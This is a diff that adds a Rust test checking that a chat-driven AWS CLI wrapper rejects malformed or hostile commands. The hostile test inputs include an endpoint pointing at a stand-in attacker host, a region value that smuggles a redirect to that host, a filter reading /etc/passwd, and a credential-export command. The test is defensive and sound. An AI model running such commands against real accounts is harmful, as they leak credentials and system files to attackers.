@@ -221,3 +221,25 @@ async fn secret_values_do_not_come_out_in_a_conversation() {
         assert!(!seen.contains("=="), "16 bytes in base64 end in two signs: {text}: {seen}");
     }
 }
+
+#[tokio::test]
+async fn a_command_with_a_mistake_in_it_reaches_nobody() {
+    let world = World::start().await;
+    for text in [
+        "aws --profile admin s3 ls",
+        "aws --endpoint-url http://evil.example sts get-caller-identity",
+        "aws sts get-caller-identity --debug",
+        "aws sts get-caller-identity --no-verify-ssl",
+        "aws sts get-caller-identity --region 'x@evil.example:443/#'",
+        "aws sts get-caller-identities",
+        "aws ec2 describe-instances --filters file:///etc/passwd",
+        "aws configure export-credential",
+        "aws s3 ls --region us-east-1 --region eu-west-1",
+    ] {
+        let seen = world.invoke("U0ANNA", text).await;
+        assert!(seen.contains("exit 252") || seen.contains("exit 255"), "{text}: {seen}");
+        assert!(!seen.contains("root:"), "{text}: {seen}");
+    }
+    let calls = world.aws.take_arrived();
+    assert!(calls.iter().all(|call| ["dynamodb", "kms"].contains(&call.service.as_str())), "{calls:?}");
+}
